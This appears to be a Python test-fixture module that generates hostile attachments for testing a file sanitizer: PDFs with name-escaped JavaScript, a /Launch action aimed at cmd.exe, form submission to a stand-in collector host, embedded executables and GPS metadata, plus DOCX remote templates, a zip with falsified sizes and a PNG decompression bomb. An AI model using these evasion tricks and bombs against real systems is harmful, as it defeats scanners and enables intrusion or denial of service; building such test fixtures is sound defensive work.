"""Hostile attachments, built on the fly (no binary fixtures): PDFs with actions, scripts,
attached files and metadata; Word files that fetch, embed or run things; lying zips; image
bombs."""

import io
import struct
import zipfile
import zlib

import pikepdf

from tests.referrals import files

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PR = "http://schemas.openxmlformats.org/package/2006/relationships"


# --- PDF ----------------------------------------------------------------------------------------
# Names as a byte search would look for them, and the same names escaped (#xx is a character
# code in a PDF name): a parser reads both alike.
ESCAPES = [
    (b"/JavaScript", b"/J#61vaScript"),
    (b"/JS", b"/J#53"),
    (b"/Launch", b"/L#61unch"),
    (b"/EmbeddedFile", b"/E#6DbeddedFile"),
    (b"/XFA", b"/X#46A"),
]


def _pdf(build) -> bytes:
    """A one-page PDF; `build(pdf, page)` adds the hostile part. Its names are escaped, so
    only a parser sees what it holds."""
    pdf = pikepdf.open(io.BytesIO(files.pdf()))
    build(pdf, pdf.pages[0])
    output = io.BytesIO()
    pdf.save(output)
    data = output.getvalue()
    for plain, escaped in ESCAPES:
        data = data.replace(plain, escaped)
    return data


def _action(pdf, kind, **entries):
    return pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name(kind), **entries))


def _link(pdf, page, action):
    annotation = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=[72, 700, 300, 720],
        A=action,
    )
    page.obj.Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(annotation)]))


def pdf_with_escaped_javascript() -> bytes:
    """An open action that runs JavaScript, found by no byte search for /JavaScript or /JS."""

    def build(pdf, page):
        pdf.Root.OpenAction = _action(pdf, "/JavaScript", JS=pikepdf.String("app.alert(1)"))

    data = _pdf(build)
    assert b"/JavaScript" not in data and b"/JS" not in data
    return data


def pdf_with_action(kind: str) -> bytes:
    """A link annotation whose action is `kind` (/Launch, /GoToR, /SubmitForm...)."""
    targets = {
        "/Launch": {"F": pikepdf.String("C:\\Windows\\System32\\cmd.exe")},
        "/GoToR": {"F": pikepdf.String("\\\\files.example\\share\\a.pdf"), "D": [0, "/Fit"]},
        "/GoToE": {"D": [0, "/Fit"], "T": pikepdf.Dictionary(R=pikepdf.Name.C)},
        "/SubmitForm": {"F": pikepdf.String("https://collector.example/")},
        "/ImportData": {"F": pikepdf.String("data.fdf")},
    }
    return _pdf(lambda pdf, page: _link(pdf, page, _action(pdf, kind, **targets[kind])))


def pdf_with_open_actions_and_links() -> bytes:
    """What harmless generators sometimes write and a viewer acts on: an open action, page and
    annotation additional actions, and web links (one to a network share)."""

    def build(pdf, page):
        pdf.Root.OpenAction = _action(pdf, "/URI", URI=pikepdf.String("https://track.example/o"))
        page.obj.AA = pikepdf.Dictionary(
            O=_action(pdf, "/URI", URI=pikepdf.String("https://track.example/p"))
        )
        _link(pdf, page, _action(pdf, "/URI", URI=pikepdf.String("file://files.example/share")))
        page.obj.Annots[0].AA = pikepdf.Dictionary(
            E=_action(pdf, "/URI", URI=pikepdf.String("https://track.example/a"))
        )

    return _pdf(build)


def pdf_with_attachment_annotation() -> bytes:
    def build(pdf, page):
        spec = pikepdf.AttachedFileSpec(pdf, b"MZ" + b"\x00" * 50, filename="payload.exe")
        annotation = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.FileAttachment,
            Rect=[72, 700, 90, 720],
            FS=spec.obj,
        )
        page.obj.Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(annotation)]))

    return _pdf(build)


def pdf_with_xfa() -> bytes:
    def build(pdf, page):
        xfa = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
        pdf.Root.AcroForm = pdf.make_indirect(pikepdf.Dictionary(Fields=[], XFA=xfa))

    return _pdf(build)


def pdf_with_metadata(author: str) -> bytes:
    """Document information and XMP naming the author, and a JPEG with GPS position inside."""

    def build(pdf, page):
        pdf.docinfo["/Author"] = author
        with pdf.open_metadata(set_pikepdf_as_editor=False) as xmp:
            xmp["dc:creator"] = [author]
        photo = pdf.make_stream(
            files.jpeg_with_gps(),
            Type=pikepdf.Name.XObject,
            Subtype=pikepdf.Name.Image,
            Width=40,
            Height=30,
            ColorSpace=pikepdf.Name.DeviceRGB,
            BitsPerComponent=8,
            Filter=pikepdf.Name.DCTDecode,
        )
        page.obj.Resources.XObject = pikepdf.Dictionary(Photo=photo)

    return _pdf(build)


# --- DOCX ---------------------------------------------------------------------------------------
def _relationships(*items: tuple[str, str, str, str]) -> str:
    """(id, type, target, mode) -> a relationships part."""
    rels = "".join(
        f'<Relationship Id="{rid}" Type="{R}/{kind}" Target="{target}"'
        + (f' TargetMode="{mode}"' if mode else "")
        + "/>"
        for rid, kind, target, mode in items
    )
    return f'<?xml version="1.0"?><Relationships xmlns="{PR}">{rels}</Relationships>'


def docx_with_document_relationship(kind: str, target: str, mode: str = "", extra=None) -> bytes:
    parts = {"word/_rels/document.xml.rels": _relationships(("rId9", kind, target, mode))}
    return files.docx({**parts, **(extra or {})})


def docx_with_remote_template() -> bytes:
    settings_xml = (
        f'<w:settings xmlns:w="{files.W}" xmlns:r="{R}"><w:attachedTemplate r:id="rId1"/>'
        "</w:settings>"
    )
    return files.docx(
        {
            "word/settings.xml": settings_xml,
            "word/_rels/settings.xml.rels": _relationships(
                ("rId1", "attachedTemplate", "https://templates.example/t.dotm", "External")
            ),
        }
    )


def docx_with_field(*instruction_runs: str) -> bytes:
    """A field whose instruction is split over runs, as Word writes it."""
    runs = "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in instruction_runs)
    document = (
        f'<w:document xmlns:w="{files.W}"><w:body><w:p>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f"{runs}"
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        "</w:p></w:body></w:document>"
    )
    return _replace(files.docx(), "word/document.xml", document)


def docx_with_properties_and_photo(author: str) -> bytes:
    core = (
        '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/'
        'core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/">'
        f"<dc:creator>{author}</dc:creator></cp:coreProperties>"
    )
    app = f"<Properties><Company>{author} Associates</Company></Properties>"
    custom = (
        f"<Properties><property name='Case'><vt:lpwstr>{author}</vt:lpwstr></property></Properties>"
    )
    package = (
        f'<?xml version="1.0"?><Relationships xmlns="{PR}">'
        f'<Relationship Id="rId1" Type="{R}/officeDocument" Target="word/document.xml"/>'
        '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/'
        'relationships/metadata/core-properties" Target="docProps/core.xml"/>'
        f'<Relationship Id="rId3" Type="{R}/extended-properties" Target="docProps/app.xml"/>'
        f'<Relationship Id="rId4" Type="{R}/custom-properties" Target="/docProps/custom.xml"/>'
        "</Relationships>"
    )
    overrides = "".join(
        f'<Override PartName="/docProps/{name}.xml" ContentType="application/vnd.example-{name}"/>'
        for name in ("core", "app", "custom")
    )
    content_types = files.CONTENT_TYPES.replace("</Types>", f"{overrides}</Types>")
    return _replace(
        files.docx(
            {
                "docProps/core.xml": core,
                "docProps/app.xml": app,
                "docProps/custom.xml": custom,
                "word/media/image1.jpeg": files.jpeg_with_gps(),
            },
            content_types,
        ),
        "_rels/.rels",
        package,
    )


def _replace(docx: bytes, name: str, content: str) -> bytes:
    rebuilt = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx)) as source, zipfile.ZipFile(rebuilt, "w") as target:
        for entry in source.infolist():
            data = source.read(entry)
            target.writestr(entry, content if entry.filename == name else data)
    return rebuilt.getvalue()


NAME = b"word/media/zeros.bin"


def docx_with_lying_sizes(unpacked_bytes: int, declared: int = 1000) -> bytes:
    """A zip whose entry of zeros says, in both of its headers, that it unpacks to `declared`
    bytes."""
    data = bytearray(files.zip_bomb_docx(unpacked_bytes))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        entry = archive.getinfo(NAME.decode())
    # Local header: the uncompressed size is at offset 22; central directory header: offset 24.
    struct.pack_into("<I", data, entry.header_offset + 22, declared)
    central = data.index(b"PK\x01\x02")
    while data[central + 46 : central + 46 + len(NAME)] != NAME:
        central = data.index(b"PK\x01\x02", central + 4)
    struct.pack_into("<I", data, central + 24, declared)
    return bytes(data)


# --- images -------------------------------------------------------------------------------------
def png_header_only(width: int, height: int) -> bytes:
    """A PNG that declares `width` x `height` (1-bit) and carries almost no image data: cheap to
    send, costly to decode."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 1024))
        + chunk(b"IEND", b"")
    )
